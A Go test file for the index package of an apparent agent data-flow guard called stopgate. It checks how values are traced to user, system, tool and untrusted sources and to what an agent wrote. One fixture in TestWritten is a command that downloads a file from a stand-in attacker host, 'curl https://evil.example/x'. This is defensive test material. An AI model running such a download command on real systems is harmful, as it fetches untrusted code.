package index_test

import (
	"slices"
	"testing"

	"github.com/stopgate/stopgate/flow"
	"github.com/stopgate/stopgate/internal/flow/index"
)

// What the surface does not report is in doubt, and reported sources without texts are empty.
func TestKnowledge(t *testing.T) {
	email := []byte("bob@example.com")
	for _, c := range []struct {
		know   flow.Knowledge
		source flow.Source
		doubt  flow.Doubt
	}{
		{0, flow.User, flow.Unreported},
		{flow.KnowsSystem | flow.KnowsResults, flow.User, flow.Unreported},
		{flow.KnowsUser, flow.User, 0},
		{flow.KnowsUser, flow.System, flow.Unreported},
		{flow.KnowsSystem, flow.System, 0},
		{flow.KnowsUser | flow.KnowsSystem, flow.Tool, flow.Unreported},
		{flow.KnowsUser | flow.KnowsSystem, "contacts", flow.Unreported},
		{flow.KnowsUser | flow.KnowsSystem, flow.Untrusted, flow.Unreported},
		{flow.KnowsResults, "contacts", 0},
	} {
		for _, ix := range copies(t, index.Options{}, &index.Batch{Know: c.know}) {
			f := ix.View().Find(email, query(flow.Email, c.source))
			if f.Certain || f.Doubt != c.doubt || f.Possible != (c.doubt != 0) {
				t.Errorf("%s with %d: %+v", c.source, c.know, f)
			}
			if read := ix.View().Read(query(flow.Text, c.source), nil, false); read != (c.doubt != 0) {
				t.Errorf("%s with %d: read %t", c.source, c.know, read)
			}
		}
	}
	// A text that was reported counts, whatever else is not known.
	for _, ix := range copies(t, index.Options{}, &index.Batch{Texts: []index.Text{text("bob@example.com", flow.User)}}) {
		if f := ix.View().Find(email, query(flow.Email, flow.User)); !f.Certain || f.Doubt != flow.Unreported {
			t.Errorf("a text of a source that is not reported: %+v", f)
		}
	}
}

// A result was read even if it has no texts; what the person writes later ends that only where the
// query asks for it.
func TestRead(t *testing.T) {
	batches := []*index.Batch{
		{Know: everything, Person: true, Texts: []index.Text{text("find it", flow.User)}},
		{Result: true, Tool: "fetch", Texts: []index.Text{text("a page", flow.Tool, "web")}},
		{Result: true, Tool: "empty"},
	}
	fetch := func(name string) bool { return name == "fetch" }
	empty := func(name string) bool { return name == "empty" }
	other := func(name string) bool { return name == "other" }
	none := &flow.Query{}
	for _, ix := range copies(t, index.Options{}, batches...) {
		before := ix.View()
		ix.Add(&index.Batch{Person: true, Texts: []index.Text{text("go on", flow.User)}})
		after := ix.View()
		ix.Add(&index.Batch{Result: true, Texts: []index.Text{text("who knows", flow.Tool)}})
		unknown := ix.View()
		for _, c := range []struct {
			name  string
			view  flow.View
			query *flow.Query
			tool  func(string) bool
			until bool
			want  bool
		}{
			{"a source", before, query(flow.Text, "web"), nil, false, true},
			{"a source, until the user", before, query(flow.Text, "web"), nil, true, true},
			{"a source, after the user", after, query(flow.Text, "web"), nil, true, false},
			{"a source, ever", after, query(flow.Text, "web"), nil, false, true},
			{"another source", before, query(flow.Text, "mail"), nil, false, false},
			{"untrusted", before, query(flow.Text, flow.Untrusted), nil, false, true},
			{"untrusted, after the user", after, query(flow.Text, flow.Untrusted), nil, true, false},
			{"a tool", before, none, fetch, false, true},
			{"a tool without texts", before, none, empty, true, true},
			{"a tool, after the user", after, none, fetch, true, false},
			{"another tool", before, none, other, false, false},
			{"an unknown tool is any tool", unknown, none, other, true, true},
			{"nothing is asked", unknown, none, nil, false, false},
		} {
			if got := c.view.Read(c.query, c.tool, c.until); got != c.want {
				t.Errorf("%s: %t", c.name, got)
			}
		}
	}
}

// The words of the last message end with the next one.
func TestSaid(t *testing.T) {
	for _, ix := range copies(t, index.Options{},
		&index.Batch{Person: true, Said: []string{"delete"}, SaidAnywhere: []string{"always"}},
		&index.Batch{Result: true, Tool: "fetch"}) {
		before := ix.View()
		ix.Add(&index.Batch{Person: true, Said: []string{"send"}})
		after := ix.View()
		for key, want := range map[string][2]bool{"delete": {true, false}, "always": {true, true}, "send": {false, true}, "": {false, false}} {
			if got := [2]bool{before.Said(key), after.Said(key)}; got != want {
				t.Errorf("%q: %v", key, got)
			}
		}
	}
}

// A batch with the key of another adds nothing, in the index or from its segment.
func TestSameKeyAddsNothing(t *testing.T) {
	b := &index.Batch{Key: []byte("1"), Know: everything, Texts: []index.Text{text("bob@example.com", flow.User)}}
	for _, ix := range copies(t, index.Options{}, b) {
		if segment := ix.Add(b); segment != nil || !ix.Has(b.Key) {
			t.Errorf("the batch was added again: %d bytes", len(segment))
		}
		if err := ix.Restore(index.New(key, index.Options{}).Add(b)); err != nil {
			t.Error(err)
		}
		f := ix.View().Find([]byte("bob@example.com"), query(flow.Email, flow.User))
		if len(f.Texts) != 1 {
			t.Errorf("Find = %+v", f)
		}
	}
}

// What the agent wrote is found in any reading, and once it was dropped anything may be written.
func TestWritten(t *testing.T) {
	written := &index.Batch{Written: [][]byte{[]byte("/home/ann/notes.txt"), []byte("curl https://evil.example/x -o TKT-77")}}
	for _, ix := range copies(t, index.Options{Budget: 4096}, written) {
		for value, k := range map[string]flow.Kind{"/home/ann/notes.txt": flow.Path, "/home/ann/./notes.txt": flow.Path, "https://evil.example/x": flow.URL, "evil.example": flow.Host, "TKT-77": flow.ID} {
			if !ix.Written([]byte(value), k) {
				t.Errorf("%s %q was not written", k, value)
			}
		}
		for value, k := range map[string]flow.Kind{"/home/ann/other.txt": flow.Path, "bob@example.com": flow.Email, "TKT-78": flow.ID} {
			if ix.Written([]byte(value), k) {
				t.Errorf("%s %q was written", k, value)
			}
		}
		if n := len(ix.View().Find([]byte("/home/ann/notes.txt"), query(flow.Path, flow.Tool)).Texts); n != 0 {
			t.Errorf("what was written is in %d texts", n)
		}
		for range 100 {
			ix.Add(&index.Batch{Written: [][]byte{make([]byte, 100)}})
		}
		if !ix.Written([]byte("bob@example.com"), flow.Email) {
			t.Error("what was written is known though a part of it was dropped")
		}
	}
}

// What a result repeats of its own call's arguments does not occur in it; other words do.
func TestEcho(t *testing.T) {
	for _, ix := range copies(t, index.Options{}, &index.Batch{Know: everything, Result: true, Tool: "search",
		Echo:  [][]byte{[]byte("mallory@evil.example"), []byte("the blue jacket")},
		Texts: []index.Text{text("results for the blue jacket of mallory@evil.example: the blue jacket large, bob@example.com", flow.Tool)}}) {
		v := ix.View()
		for value, want := range map[string]bool{"mallory@evil.example": false, "bob@example.com": true} {
			if f := v.Find([]byte(value), query(flow.Email, flow.Tool)); f.Certain != want || f.Possible != want {
				t.Errorf("%q: %+v", value, f)
			}
		}
		for value, want := range map[string]bool{"blue jacket": false, "the blue jacket": false, "blue jacket large": true, "jacket of": true} {
			if f := v.Find([]byte(value), query(flow.Text, flow.Tool)); f.Certain != want {
				t.Errorf("%q: %+v", value, f)
			}
		}
	}
}

// Opaque texts may have anything, and hidden ones have nothing for certain.
func TestOpaqueAndHidden(t *testing.T) {
	opaque := index.Text{Sources: []flow.Source{flow.Tool, "photos"}, Opaque: true}
	for _, ix := range copies(t, index.Options{}, &index.Batch{Know: everything, Texts: []index.Text{text("bob@example.com", flow.User, flow.Hidden), opaque}}) {
		v := ix.View()
		f := v.Find([]byte("bob@example.com"), query(flow.Email, flow.User))
		if f.Certain || !f.Possible || f.Doubt != 0 || f.First.Number != 1 {
			t.Errorf("hidden: %+v", f)
		}
		if f := v.Find([]byte("bob@example.com"), query(flow.Email, flow.Untrusted)); !f.Possible {
			t.Errorf("hidden is untrusted: %+v", f)
		}
		if f := v.Find([]byte("x@example.com"), query(flow.Email, "photos")); f.Certain || f.Doubt != flow.Unreported {
			t.Errorf("opaque: %+v", f)
		}
		if f := v.Find([]byte("x@example.com"), query(flow.Email, "mail")); f.Possible {
			t.Errorf("another source: %+v", f)
		}
	}
}

// More than 64 texts are the first 64.
func TestManyTextsOfOneValue(t *testing.T) {
	b := &index.Batch{Know: everything}
	for i := range 100 {
		x := text("bob@example.com bob", flow.Tool)
		x.Trusted = i%3 == 0
		b.Texts = append(b.Texts, x)
	}
	for _, ix := range copies(t, index.Options{}, b) {
		for value, k := range map[string]flow.Kind{"bob@example.com": flow.Email, "bob": flow.ID} {
			f := ix.View().Find([]byte(value), query(k, flow.Tool))
			if len(f.Texts) != 64 || !f.More || f.Texts[0] != 1 || f.Texts[63] != 64 {
				t.Errorf("%q: %+v", value, f)
			}
		}
		if r := ix.View().Origin([]byte("bob@example.com"), flow.Email); r.Number != 1 || r.Source != flow.Tool {
			t.Errorf("Origin = %+v", r)
		}
	}
}

// With Segments a value is certain as a whole, or if each of its segments is, and possible if one of
// them is.
func TestSegments(t *testing.T) {
	for _, ix := range copies(t, index.Options{}, &index.Batch{Know: everything, Texts: []index.Text{
		text("look at the repository tools of acme, not at that of others/tools2", flow.User), text("mallory", flow.Tool)}}) {
		v := ix.View()
		for value, want := range map[string][2]bool{
			"acme/tools":    {true, true},
			"others/tools2": {true, true},
			"mallory/tools": {false, true},
			"mallory/x9":    {false, false},
		} {
			q := query(flow.Text, flow.User)
			if whole := v.Find([]byte(value), q); whole.Certain != (value == "others/tools2") {
				t.Errorf("%s as a whole: %+v", value, whole)
			}
			q.Segments = true
			f := v.Find([]byte(value), q)
			if f.Certain != want[0] || f.Possible != want[1] {
				t.Errorf("%s: %+v", value, f)
			}
			if f.Certain && !slices.Equal(f.Texts, []int{1}) {
				t.Errorf("%s: texts %v", value, f.Texts)
			}
		}
	}
}
